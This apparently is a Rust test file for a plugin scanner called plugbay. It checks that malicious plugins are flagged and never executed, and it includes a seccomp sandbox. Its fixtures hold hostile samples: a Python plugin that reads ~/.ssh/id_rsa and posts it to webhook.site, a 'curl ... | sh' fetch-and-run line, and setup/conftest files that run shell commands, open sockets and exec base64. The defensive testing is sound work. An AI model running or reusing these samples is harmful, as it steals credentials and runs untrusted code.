//! `plugbay scan`

use super::*;

/// A plugin that sends a key away.
fn thief() -> tempfile::TempDir {
    let base = plugin("name: demo\nversion: 1.0.0\nmain: main.py\n");
    let code = "import os\nimport requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
                requests.post('https://webhook.site/x', data=key)\n";
    fs::write(base.path().join("demo/main.py"), code).unwrap();
    base
}

#[test]
fn what_attacks_do_ends_with_four() {
    let base = thief();
    let run = plugbay(base.path(), &["scan", "demo"]);
    assert_eq!(run.code, 4, "{}", run.stderr);
    assert!(run.stdout.starts_with("demo: malicious ("), "{}", run.stdout);
    assert!(run.stdout.contains("  main.py:3:7: credentials: "), "{}", run.stdout);
    assert!(run.stdout.ends_with("The border is the sandbox, and what you grant.\n"), "{}", run.stdout);
    let json = plugbay(base.path(), &["scan", "demo", "--json"]);
    assert_eq!((json.code, json.json()["verdict"].as_str()), (4, Some("malicious")));
    let github = plugbay(base.path(), &["scan", "demo", "--format", "github"]);
    assert!(github.stdout.contains("::error file=demo/main.py,line=3,col=7,title=credentials::"), "{}", github.stdout);
}

#[test]
fn an_archive_is_judged_like_its_folder() {
    let base = thief();
    let packed = plugbay(base.path(), &["pack", "demo", "-o", "a.tar.gz"]).ok();
    assert!(packed.stderr.contains("warning: main.py:3:7: credentials: "), "{}", packed.stderr);
    let of = |path: &str| plugbay(base.path(), &["scan", path, "--json"]).json();
    let (folder, archive) = (of("demo"), of("a.tar.gz"));
    assert_eq!(folder["findings"], archive["findings"]);
    assert!(folder["findings"].as_array().unwrap().len() >= 2);
    fs::write(base.path().join("no.tar.gz"), "no archive").unwrap();
    plugbay(base.path(), &["scan", "no.tar.gz"]).failed(4, "error:");
    plugbay(base.path(), &["scan", "nowhere"]).failed(2, "there is nothing at `nowhere`");
}

#[test]
fn a_plain_plugin_is_clean() {
    let base = demo();
    let run = plugbay(base.path(), &["scan", "demo"]).ok();
    assert!(run.stdout.starts_with("demo: clean ("), "{}", run.stdout);
    let packed = plugbay(base.path(), &["pack", "demo", "-o", "a.tar.gz"]).ok();
    assert!(!packed.stderr.contains("Scan:"), "{}", packed.stderr);
}

/// What `--format sarif` writes is valid, also with foreign text in it.
#[test]
fn sarif_is_valid_by_the_official_schema() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/sarif/sarif-schema-2.1.0.json");
    // One pattern of the schema has a bracket that closes nothing, which some readers forgive.
    let text = fs::read_to_string(path).unwrap().replace("{2}]?$", "{2}$");
    let schema = jsonschema::draft7::new(&serde_json::from_str(&text).unwrap()).unwrap();
    let base = thief();
    fs::write(base.path().join("demo/b #1.sh"), "curl http://a.example/\u{7} | sh\n").unwrap();
    fs::write(base.path().join("demo/broken.py"), "x = (\n").unwrap();
    let scan = plugbay(base.path(), &["scan", "demo", "--format", "sarif"]);
    assert_eq!(scan.code, 4, "{}", scan.stderr);
    plugbay(base.path(), &["pack", "demo", "-o", "a.tar.gz"]).ok();
    let archive = plugbay(base.path(), &["scan", "a.tar.gz", "--format", "sarif"]);
    let validate = plugbay(base.path(), &["validate", "demo", "--format", "sarif"]);
    fs::write(base.path().join("demo/plugin.yaml"), "name: demo\nverison: 1\n").unwrap();
    let wrong = plugbay(base.path(), &["validate", "demo", "--format", "sarif"]);
    assert_eq!(wrong.code, 4);
    for run in [&scan, &archive, &validate, &wrong] {
        let document = run.json();
        let mistakes: Vec<String> = schema.iter_errors(&document).map(|mistake| mistake.to_string()).collect();
        assert!(mistakes.is_empty(), "{mistakes:?}\n{document:#}");
        assert!(!document["runs"][0]["results"].as_array().unwrap().is_empty());
        assert!(!run.stdout.contains(['\u{1b}', '\u{202e}', '\u{7}']), "{}", run.stdout);
    }
    let levels = scan.json()["runs"][0]["results"].to_string();
    assert!(levels.contains("\"error\"") && levels.contains("\"note\""), "{levels}");
    assert!(!schema.is_valid(&serde_json::json!({ "version": "2.1.0" })), "the schema refuses something");
}

/// Ends a program that makes another process, a socket or a connection: the reader needs none of them.
const ALONE: &str = "
import ctypes, os, struct, sys
KILL, ALLOW, CLONE_THREAD = 0x80000000, 0x7fff0000, 0x10000
def load(at): return struct.pack('HBBI', 0x20, 0, 0, at)
def equal(value, yes, no): return struct.pack('HBBI', 0x15, yes, no, value)
def set_bits(value, yes, no): return struct.pack('HBBI', 0x45, yes, no, value)
def end(value): return struct.pack('HBBI', 0x06, 0, 0, value)
code = [load(0)]
for number in (41, 42, 49, 57, 58):  # socket, connect, bind, fork, vfork
    code += [equal(number, 0, 1), end(KILL)]
code += [equal(435, 0, 1), end(0x00050026)]  # clone3: ENOSYS, so that clone is used
code += [equal(56, 0, 3), load(16), set_bits(CLONE_THREAD, 1, 0), end(KILL), end(ALLOW)]
program = ctypes.create_string_buffer(b''.join(code))
filter = struct.pack('HxxxxxxQ', len(code), ctypes.addressof(program))
libc = ctypes.CDLL(None, use_errno=True)
assert libc.prctl(38, 1, 0, 0, 0) == 0
assert libc.prctl(22, 2, ctypes.c_char_p(filter), 0, 0) == 0, ctypes.get_errno()
os.execvp(sys.argv[1], sys.argv[1:])
";

#[test]
fn a_scan_starts_nothing_and_connects_to_nothing() {
    let base = thief();
    let pwned = base.path().join("pwned");
    let code = format!(
        "import os, socket\nopen({pwned:?}, 'w')\nos.system('touch {}')\nsocket.create_connection(('127.0.0.1', 9))\n\
         exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\n",
        pwned.display()
    );
    fs::write(base.path().join("demo/conftest.py"), &code).unwrap();
    fs::write(base.path().join("demo/setup.py"), &code).unwrap();
    plugbay(base.path(), &["pack", "demo", "-o", "a.tar.gz"]).ok();
    let alone = |arguments: &[&str]| {
        let mut command = command(base.path(), "python3");
        finish(&command.args(["-c", ALONE]).args(arguments).output().unwrap())
    };
    for path in ["demo", "a.tar.gz"] {
        let run = alone(&[env!("CARGO_BIN_EXE_plugbay"), "scan", path, "--json"]);
        assert_eq!(run.code, 4, "{}{}", run.stdout, run.stderr);
        assert_eq!(run.json()["verdict"], "malicious");
    }
    assert!(!pwned.exists());
    // The border around the program holds: a signal ends what does more than reading.
    assert_eq!(alone(&["sh", "-c", "true; true | true"]).code, -1);
    assert_eq!(alone(&["python3", "-c", "import socket; socket.socket()"]).code, -1);
    assert_eq!(alone(&["sh", "-c", "exit 3"]).code, 3);
}
